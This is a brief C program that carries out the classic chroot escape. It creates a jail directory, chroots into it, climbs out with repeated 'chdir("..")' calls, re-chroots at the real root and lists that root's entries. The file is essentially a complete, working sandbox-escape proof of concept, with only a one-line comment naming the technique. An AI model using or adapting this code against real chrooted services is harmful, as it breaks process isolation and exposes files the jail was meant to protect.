/* The classic way out of a chroot: a process that may chroot and whose working directory lies outside its root walks up as far
 * as it goes. Prints the names in the directory where it ends. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what) {
    perror(what);
    return 1;
}

int main(void) {
    if (mkdir("escape-jail", 0755) != 0) return fail("mkdir");
    if (chroot("escape-jail") != 0) return fail("chroot into the jail");
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) return fail("chdir");
    }
    if (chroot(".") != 0) return fail("chroot out of the jail");
    DIR *root = opendir("/");
    if (root == NULL) return fail("opendir");
    for (struct dirent *entry = readdir(root); entry != NULL; entry = readdir(root)) puts(entry->d_name);
    return closedir(root) == 0 ? 0 : fail("closedir");
}
